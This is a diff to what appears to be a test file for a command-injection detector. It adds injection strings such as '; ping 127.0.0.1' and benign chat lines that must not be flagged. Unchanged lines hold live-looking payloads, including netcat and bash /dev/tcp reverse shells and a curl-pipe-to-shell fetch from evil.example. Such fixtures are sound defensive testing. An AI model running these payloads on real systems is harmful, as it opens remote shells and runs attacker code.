@@ -14,6 +14,10 @@ const ATTACKS = [
   '| nc 10.0.0.1 4444 -e /bin/sh',
   '& ping -n 30 127.0.0.1 &',
   '; sleep 5',
+  // a number or host right after the tool word, with or without words after it
+  '; ping 127.0.0.1 and more',
+  'ok; sleep 10 more minutes',
+  'a; dig evil.example any',
   'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
   'curl http://evil.example/x.sh | sh',
   'cmd /c dir',
@@ -70,6 +74,10 @@ const CHAT = [
   'the `ls` command lists files',
   'use `rm -rf` with care',
   'ping me later',
+  // a number after English words is no argument of the tool word before them
+  'see you; ping me at 5',
+  'lunch; ping me around 12:30 ok',
+  'done & wait for me until 6',
   'cat lovers unite!',
   'type the answer (one word)',
   "rock'n'roll: don't stop",
